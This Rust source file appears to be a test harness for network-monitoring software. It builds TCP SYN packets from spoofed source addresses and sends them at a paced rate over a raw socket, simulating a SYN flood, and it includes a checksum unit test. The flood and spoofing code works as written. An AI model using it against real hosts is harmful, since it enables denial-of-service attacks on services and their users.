//! A SYN flood from spoofed peers: TCP SYNs written with a raw socket, each from a source address
//! of its own, so that a listener answers every one with a SYN-ACK no one acknowledges and, after
//! its timeout, retransmits it. What a node on the internet sees from scanners and floods: the
//! agent's retransmit signal is fed a hundred thousand peers it has never heard of.

use std::{
    net::Ipv4Addr,
    time::{Duration, Instant},
};

use anyhow::Context as _;

const IP_HEADER_BYTES: usize = 20;
const TCP_HEADER_BYTES: usize = 20;
const TCP_SYN: u8 = 0x02;

/// The one's complement sum of 16-bit words that IP and TCP checksums are made of.
fn ones_complement_sum(mut sum: u32, bytes: &[u8]) -> u32 {
    for pair in bytes.chunks(2) {
        let word = u16::from_be_bytes([pair[0], pair.get(1).copied().unwrap_or(0)]);
        sum += u32::from(word);
    }
    sum
}

fn fold(mut sum: u32) -> u16 {
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// An IPv4 packet carrying a TCP SYN from `src:sport` to `dst:dport`.
pub fn syn_packet(src: Ipv4Addr, sport: u16, dst: Ipv4Addr, dport: u16, seq: u32) -> Vec<u8> {
    let mut p = vec![0u8; IP_HEADER_BYTES + TCP_HEADER_BYTES];
    let total = p.len() as u16;
    let (ip, tcp) = p.split_at_mut(IP_HEADER_BYTES);
    ip[0] = 0x45; // version 4, 5 words
    ip[2..4].copy_from_slice(&total.to_be_bytes());
    ip[8] = 64; // TTL
    ip[9] = libc::IPPROTO_TCP as u8;
    ip[12..16].copy_from_slice(&src.octets());
    ip[16..20].copy_from_slice(&dst.octets());
    let ip_sum = fold(ones_complement_sum(0, ip));
    ip[10..12].copy_from_slice(&ip_sum.to_be_bytes());
    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&dport.to_be_bytes());
    tcp[4..8].copy_from_slice(&seq.to_be_bytes());
    tcp[12] = 5 << 4; // data offset: 5 words
    tcp[13] = TCP_SYN;
    tcp[14..16].copy_from_slice(&65535u16.to_be_bytes()); // window
    let mut pseudo = Vec::with_capacity(12);
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.octets());
    pseudo.extend_from_slice(&[0, libc::IPPROTO_TCP as u8]);
    pseudo.extend_from_slice(&(TCP_HEADER_BYTES as u16).to_be_bytes());
    let tcp_sum = fold(ones_complement_sum(ones_complement_sum(0, &pseudo), tcp));
    tcp[16..18].copy_from_slice(&tcp_sum.to_be_bytes());
    p
}

/// Sends one SYN to `dst:dport` from each of `sources`, at about `per_second`; the number sent.
pub fn flood(
    dst: Ipv4Addr,
    dport: u16,
    sources: impl Iterator<Item = Ipv4Addr>,
    per_second: u32,
) -> anyhow::Result<u64> {
    // SAFETY: a plain socket call; the descriptor is closed below.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error()).context("a raw socket (needs CAP_NET_RAW)");
    }
    let to = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(dst.octets()),
        },
        sin_zero: [0; 8],
    };
    let started = Instant::now();
    let mut sent = 0u64;
    let mut result = Ok(());
    for (i, src) in sources.enumerate() {
        let packet = syn_packet(src, 1024 + (i % 60_000) as u16, dst, dport, i as u32);
        // SAFETY: the packet and address outlive the call; their lengths are passed with them.
        let n = unsafe {
            libc::sendto(
                fd,
                packet.as_ptr().cast(),
                packet.len(),
                0,
                (&raw const to).cast(),
                size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        if n < 0 {
            result = Err(std::io::Error::last_os_error()).context("sending a SYN");
            break;
        }
        sent += 1;
        // Paced in steps of a hundred: the listener's queue of half-open connections holds
        // what a few seconds bring.
        if sent.is_multiple_of(100) {
            let due = Duration::from_secs_f64(sent as f64 / f64::from(per_second.max(1)));
            if let Some(wait) = due.checked_sub(started.elapsed()) {
                std::thread::sleep(wait);
            }
        }
    }
    // SAFETY: closing the descriptor opened above, once.
    unsafe { libc::close(fd) };
    result.map(|()| sent)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn checksums_verify() {
        let p = syn_packet(
            Ipv4Addr::new(10, 64, 1, 2),
            40000,
            Ipv4Addr::new(10, 200, 74, 2),
            9999,
            7,
        );
        // A header with its checksum in sums to all ones.
        assert_eq!(fold(ones_complement_sum(0, &p[..20])), 0);
        let mut pseudo = vec![10, 64, 1, 2, 10, 200, 74, 2, 0, 6, 0, 20];
        pseudo.extend_from_slice(&p[20..]);
        assert_eq!(fold(ones_complement_sum(0, &pseudo)), 0);
        assert_eq!(p[33], TCP_SYN);
    }
}
